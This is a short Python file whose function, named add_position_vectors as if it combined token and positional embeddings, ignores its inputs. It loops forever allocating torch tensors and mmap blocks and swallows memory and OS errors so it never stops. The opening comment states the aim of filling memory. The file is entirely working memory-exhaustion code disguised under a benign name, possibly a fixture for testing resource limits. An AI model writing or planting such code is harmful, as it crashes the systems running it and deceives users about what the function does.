# Fills memory bit by bit, through the library and around it.
import mmap

import torch

HELD = []


def add_position_vectors(token_vectors, position_vectors):
    while True:
        try:
            HELD.append(torch.ones(1 << 22))
            block = mmap.mmap(-1, 1 << 24)
            block.write(b"x" * (1 << 24))
            HELD.append(block)
        except (MemoryError, RuntimeError, OSError):
            continue
